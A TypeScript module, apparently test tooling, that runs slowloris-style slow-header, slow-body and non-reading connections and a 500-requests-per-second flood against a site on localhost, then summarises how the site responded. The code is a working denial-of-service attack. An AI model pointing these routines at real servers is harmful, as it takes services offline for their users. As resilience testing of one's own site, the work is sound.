import { connect, type Socket } from 'node:net';
import { ask } from './call';

/** Connections of one attacker, of each kind. */
const CONNECTIONS = 300;
const DRIP_MS = 500;

/** 500 calls a second. */
const TICK_MS = 20;
const AT_A_TICK = 10;
const MOST_AT_ONCE = 300;

export interface Attack {
  /** Stops the attack and returns a summary of the responses. */
  stop(): Promise<string>;
}

/** Three addresses open slow connections: one never ends its headers, one its body, one never reads responses. */
export function slowClients(siteUrl: string, picture: string): Attack {
  const { port, host } = new URL(siteUrl);
  const sockets = new Set<Socket>();
  let isOver = false;
  let cut = 0;
  const open = (from: string, begin: (socket: Socket) => void, drip: string) => {
    if (isOver) return;
    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: from });
    sockets.add(socket);
    const dripping = setInterval(() => drip && socket.write(drip), DRIP_MS);
    socket.on('error', () => undefined);
    socket.once('connect', () => begin(socket));
    socket.once('close', () => {
      clearInterval(dripping);
      sockets.delete(socket);
      cut += 1;
      // With a pause: reconnecting in a loop would be a flood.
      setTimeout(() => open(from, begin, drip), DRIP_MS);
    });
  };
  const head = `Host: ${host}\r\n`;
  const post = `POST /api/send-mail HTTP/1.1\r\n${head}Content-Type: application/json\r\nContent-Length: 20000\r\n\r\n{`;
  for (let count = 0; count < CONNECTIONS; count += 1) {
    open('127.9.0.1', (socket) => void socket.write(`GET / HTTP/1.1\r\n${head}X-Slow: `), 'a');
    open('127.9.0.2', (socket) => void socket.write(post), ' ');
    open('127.9.0.3', (socket) => neverRead(socket, `GET ${picture} HTTP/1.1\r\n${head}\r\n`), '');
  }
  return {
    stop() {
      isOver = true;
      const held = sockets.size;
      for (const socket of sockets) socket.destroy();
      return Promise.resolve(`${held} slow connections open at the end, ${cut} were cut before`);
    },
  };
}

function neverRead(socket: Socket, request: string): void {
  socket.pause();
  socket.write(request.repeat(20));
}

/** One address sends 500 calls a second. */
export function flood(siteUrl: string): Attack {
  const statuses = new Map<number, number>();
  const pending = new Set<Promise<void>>();
  const askOnce = async (path: string) => {
    const status = await ask(siteUrl, { method: 'GET', path }, '127.9.1.1');
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
  };
  const flooding = setInterval(() => {
    for (let count = 0; count < AT_A_TICK && pending.size < MOST_AT_ONCE; count += 1) {
      const call = askOnce(count % 2 ? '/api/location' : '/').finally(() => pending.delete(call));
      pending.add(call);
    }
  }, TICK_MS);
  return {
    async stop() {
      clearInterval(flooding);
      await Promise.all(pending);
      const counts = [...statuses].map(([status, count]) => `${count} × ${status || 'no answer'}`);
      return `the flood was answered ${counts.join(', ')}`;
    },
  };
}
